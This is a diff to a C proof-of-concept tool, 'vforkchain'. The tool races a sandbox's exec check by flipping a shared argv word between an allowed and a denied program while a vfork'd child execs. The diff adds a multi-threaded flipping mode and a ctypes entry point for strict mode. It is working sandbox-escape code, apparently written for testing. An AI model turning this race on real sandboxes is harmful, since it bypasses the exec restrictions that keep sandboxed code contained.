@@ -7,13 +7,19 @@
 //	init, so D's parent no longer shares its memory; D execs, and P rewrites
 //	D's argv all the while.
 //
-//	vforkchain -n N -p PROG -a ALLOWED -d DENIED
+//	vforkchain [-t] -n N -p PROG -a ALLOWED -d DENIED
 //	python3 -c 'import ctypes; ctypes.CDLL("./libvforkchain.so").run(N, b"PROG", b"ALLOWED", b"DENIED")'
+//	python3 -c 'import ctypes; ctypes.CDLL("./libvforkchain.so").run_threaded(...)'
+//
+// With -t (run_threaded) P is multi-threaded: a second thread of P, which
+// vfork never suspends, does the flipping, from before the chain is made
+// until D has exec'd or 20ms have passed.
 //
 // Each attempt execs PROG ALLOWED-or-DENIED (one 8-byte word, flipped
 // atomically by P). With /bin/echo the output shows which ran; one summary
 // line follows: summary n=N done=D.
 #define _GNU_SOURCE
+#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdint.h>
@@ -40,6 +46,34 @@ static struct {
 	} word;
 } *shared;
 static char *stacks;
+static uint64_t flip_a, flip_d;
+
+// flipper rewrites D's argv word, for at most 20ms after D is ready.
+static void flip(void) {
+	struct timespec t0 = {0}, t;
+	int started = 0;
+	for (long k = 0;; k++) {
+		__atomic_store_n(&shared->word.u, (k & 1) ? flip_d : flip_a, __ATOMIC_RELAXED);
+		for (volatile int j = 0; j < 16; j++)
+			;
+		if ((k & 4095) == 0) {
+			clock_gettime(CLOCK_MONOTONIC, &t);
+			if (!started && shared->ready) {
+				t0 = t;
+				started = 1;
+			}
+			if (started && (t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) > 20000000L)
+				break;
+		}
+	}
+	shared->word.u = flip_a;
+}
+
+static void *flipper(void *arg) {
+	(void)arg;
+	flip();
+	return NULL;
+}
 
 static int grandchild(void *arg) {
 	(void)arg;
@@ -62,12 +96,11 @@ static int child(void *arg) {
 // library, so that a program on a read-only mount (python3 with ctypes) can
 // run the attack in strict mode, which refuses to start a program the
 // sandbox could have written.
-int run(int n, char *prog, const char *allowed, const char *denied) {
+static int attack(int n, char *prog, const char *allowed, const char *denied, int threaded) {
 	if (strlen(allowed) > 7 || strlen(denied) > 7)
 		return 2;
-	uint64_t va = 0, vd = 0;
-	memcpy(&va, allowed, strlen(allowed));
-	memcpy(&vd, denied, strlen(denied));
+	memcpy(&flip_a, allowed, strlen(allowed));
+	memcpy(&flip_d, denied, strlen(denied));
 	int done = 0;
 	for (int i = 0; i < n; i++) {
 		fflush(stdout);
@@ -79,26 +112,21 @@ int run(int n, char *prog, const char *allowed, const char *denied) {
 			if (shared == MAP_FAILED || stacks == MAP_FAILED)
 				_exit(2);
 			shared->prog = prog;
-			shared->word.u = va;
+			shared->word.u = flip_a;
 			shared->argv[0] = prog;
 			shared->argv[1] = shared->word.s;
 			shared->argv[2] = NULL;
+			pthread_t th;
+			if (threaded && pthread_create(&th, NULL, flipper, NULL) != 0)
+				_exit(2);
 			clone(child, stacks + STACK, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
+			if (threaded) {
+				pthread_join(th, NULL);
+				_exit(0);
+			}
 			while (!shared->ready)
 				;
-			struct timespec t0, t;
-			clock_gettime(CLOCK_MONOTONIC, &t0);
-			for (long k = 0;; k++) {
-				__atomic_store_n(&shared->word.u, (k & 1) ? vd : va, __ATOMIC_RELAXED);
-				for (volatile int j = 0; j < 16; j++)
-					;
-				if ((k & 4095) == 0) {
-					clock_gettime(CLOCK_MONOTONIC, &t);
-					if ((t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) > 20000000L)
-						break;
-				}
-			}
-			shared->word.u = va;
+			flip();
 			_exit(0);
 		}
 		waitpid(p, NULL, 0);
@@ -110,12 +138,26 @@ int run(int n, char *prog, const char *allowed, const char *denied) {
 	return 0;
 }
 
+// run makes n attempts. Built with -DLIB -shared it is the entry point of a
+// library, so that a program on a read-only mount (python3 with ctypes) can
+// run the attack in strict mode, which refuses to start a program the
+// sandbox could have written.
+int run(int n, char *prog, const char *allowed, const char *denied) {
+	return attack(n, prog, allowed, denied, 0);
+}
+
+// run_threaded is run with the flipping done by a second thread of P.
+int run_threaded(int n, char *prog, const char *allowed, const char *denied) {
+	return attack(n, prog, allowed, denied, 1);
+}
+
 #ifndef LIB
 int main(int argc, char **argv) {
-	int n = 50, opt;
+	int n = 50, opt, threaded = 0;
 	char *prog = NULL, *allowed = NULL, *denied = NULL;
-	while ((opt = getopt(argc, argv, "n:p:a:d:")) != -1) {
+	while ((opt = getopt(argc, argv, "tn:p:a:d:")) != -1) {
 		switch (opt) {
+		case 't': threaded = 1; break;
 		case 'n': n = atoi(optarg); break;
 		case 'p': prog = optarg; break;
 		case 'a': allowed = optarg; break;
@@ -124,9 +166,9 @@ int main(int argc, char **argv) {
 		}
 	}
 	if (!prog || !allowed || !denied) {
-		fprintf(stderr, "usage: vforkchain -n N -p PROG -a ALLOWED -d DENIED (words of at most 7 bytes)\n");
+		fprintf(stderr, "usage: vforkchain [-t] -n N -p PROG -a ALLOWED -d DENIED (words of at most 7 bytes)\n");
 		return 2;
 	}
-	return run(n, prog, allowed, denied);
+	return attack(n, prog, allowed, denied, threaded);
 }
 #endif
